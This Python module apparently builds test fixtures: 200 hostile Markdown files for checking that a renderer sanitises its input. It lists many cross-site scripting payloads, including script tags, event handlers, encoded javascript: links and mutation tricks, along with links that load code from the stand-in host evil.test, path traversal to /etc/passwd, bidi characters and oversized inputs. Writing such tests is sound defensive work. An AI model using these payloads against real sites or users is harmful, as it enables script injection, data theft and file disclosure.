"""Manuals written to do harm: 200 documents that try to become more than text.

Every one would set `window.pwned`, ask for `evil.test`, or draw something over the page.
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

RUN = "window.pwned=1"
TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.test/x.js>{RUN}</SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="https://evil.test/p.png" onload="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">x</math>',
    f"<iframe src=javascript:parent.{RUN}>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<style>@import 'https://evil.test/x.css'; body { display: none }</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<div style="position:fixed;inset:0" onclick="{RUN}">x</div>',
    f"<tebiki-results onclick={RUN}></tebiki-results>",
    '<script type="application/json" id="shell">{"words":{}}</script>',
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"%6Aavascript:{RUN}",
    f"\u0001javascript:{RUN}",
    f" javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "blob:https://evil.test/x",
    "view-source:https://evil.test/",
    "//evil.test/x",
    "/ui/api/settings",
    "/mcp",
    "#secret=stolen",
    "#settings",
    "../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
)
WRAPPINGS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    '![x](<{}> "{}")',
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "- [x]({})\n\n> [x]({})",
)
TRICKS = (
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\x00\x01\x02 nul and friends",
    "`code <script>window.pwned=1</script>`",
    "```html\n<script>window.pwned=1</script>\n```",
    "> " * 500 + "deep",
    "- " * 500 + "deep",
    "*" * 5000,
    "[" * 5000,
    "![](" * 2000,
    "<" * 5000,
    "| a |\n|---|\n" + "| <img src=x onerror=window.pwned=1> |\n" * 50,
    "# " + "<script>window.pwned=1</script>",
    "<a\n" * 2000,
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "𝓼𝓬𝓻𝓲𝓹𝓽 ＜script＞window.pwned=1＜/script＞",
    "<https://evil.test/" + "a" * 5000 + ">",
    '[x](https://evil.test/ "onmouseover=window.pwned=1")',
    "x" * 2_000_000,
    "<b>" + "y" * 2_000_000,
    "日本語" * 300_000,
)
DOCUMENTS = 200


def documents() -> list[str]:
    """The texts, each below a heading that says which it is."""
    links = (wrapping.replace("{}", link) for wrapping, link in itertools.product(WRAPPINGS, LINKS))
    texts = [*TAGS, *TRICKS, *links]
    return [f"# Hostile {number}\n\n{text}\n" for number, text in enumerate(texts, 1)]


def write_manual(folder: Path) -> int:
    """Write them as one manual; gives how many there are."""
    folder.mkdir(parents=True)
    texts = documents()[:DOCUMENTS]
    for number, text in enumerate(texts, 1):
        (folder / f"{number:03}.md").write_text(text, encoding="utf-8", newline="")
    return len(texts)
